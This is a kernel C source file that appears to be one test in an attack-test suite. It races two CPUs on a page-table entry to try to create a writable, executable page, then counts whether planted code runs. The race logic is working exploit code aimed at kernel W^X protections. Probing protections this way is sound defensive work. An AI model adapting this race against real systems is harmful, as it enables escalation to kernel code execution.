/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Two CPUs at one entry: while this one makes a page table of a page, makes one of it once more, or stores to it,
 * the other stores there, so that together they would make a page executable that can be written.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/cpumask.h>
#include <linux/io.h>
#include <linux/kthread.h>
#include <linux/sched.h>
#include <linux/smp.h>

#define KINDS 3u
#define ROUNDS 200u
#define INDEX 7

static unsigned long area;
static u64 *table, hostile;
static unsigned int done, called[KINDS];

/* A round of this number begins; the other side is through with it. */
static unsigned int begun, ended;

/* One side or the other, and each time a little later. */
static void delay(unsigned int round, bool other)
{
	for (unsigned int i = 0; round % 2 == other && i < round % ROUNDS * 4; i++)
		cpu_relax();
}

static void other_store(unsigned int kind)
{
	unsigned int fault = 1;

	if (kind < 2)
		(void)attack_store(&table[INDEX], hostile);
	else
		asm volatile(ATTACK_TRY("lock btrq $63, (%[entry])")
			     : [fault] "+r"(fault)
			     : [entry] "r"(&table[INDEX])
			     : "memory", "cc");
}

static int other_side(void *unused)
{
	(void)unused;
	for (unsigned int round = 1; round <= KINDS * ROUNDS; round++) {
		while (smp_load_acquire(&begun) < round && !kthread_should_stop())
			cond_resched();
		delay(round, true);
		other_store((round - 1) / ROUNDS);
		smp_store_release(&ended, round);
	}
	while (!kthread_should_stop())
		schedule_timeout_interruptible(1);
	return 0;
}

/* Result: is there a table in the end? */
static bool this_side(unsigned int kind)
{
	if (kind == 0)
		return attack_link(table);
	if (kind == 1)
		return attack_link(NULL) && attack_link(table);
	(void)attack_store(&table[INDEX], hostile | _PAGE_NX);
	return true;
}

static bool one_round(unsigned int round)
{
	const unsigned int kind = (round - 1) / ROUNDS;
	bool linked;

	if (kind && !attack_link(table))
		return false;
	smp_store_release(&begun, round);
	delay(round, false);
	linked = this_side(kind);
	while (smp_load_acquire(&ended) < round)
		cond_resched();
	if (linked && READ_ONCE(table[INDEX]) == hostile) {
		attack_flush();
		called[kind] += attack_call(area + INDEX * PAGE_SIZE) == ATTACK_CALLED;
	}
	(void)attack_store(&table[INDEX], 0);
	return attack_link(NULL) && attack_store(&table[INDEX], 0);
}

static int attempt(void)
{
	const unsigned int other = cpumask_any_but(cpu_online_mask, raw_smp_processor_id());
	void *code = attack_page(0);
	struct task_struct *thread;
	int result = 0;

	if (other >= nr_cpu_ids) {
		attack_detail("one CPU");
		return -EOPNOTSUPP;
	}
	area = attack_area();
	table = attack_page(0);
	if (!area || !table || !code)
		return -ENOMEM;
	attack_write_code(code);
	hostile = virt_to_phys(code) | ATTACK_CODE | _PAGE_RW;
	thread = kthread_create(other_side, NULL, "pt_race");
	if (IS_ERR(thread))
		return PTR_ERR(thread);
	kthread_bind(thread, other);
	wake_up_process(thread);
	for (unsigned int round = 1; round <= KINDS * ROUNDS && !result; round++)
		result = one_round(round) ? 0 : -EIO;
	kthread_stop(thread);
	for (unsigned int kind = 0; kind < KINDS; kind++)
		done += called[kind] != 0;
	return result;
}

static bool effect(void)
{
	attack_detail("%u of %u kinds; %u, %u, %u calls", done, KINDS, called[0], called[1],
		      called[2]);
	return attack_tries(done, KINDS);
}

static const struct attack pt_race = {
	"pt_race", "kernel-exec,page-table-type", NULL, attempt, effect, NULL};
ATTACK_MODULE(pt_race);
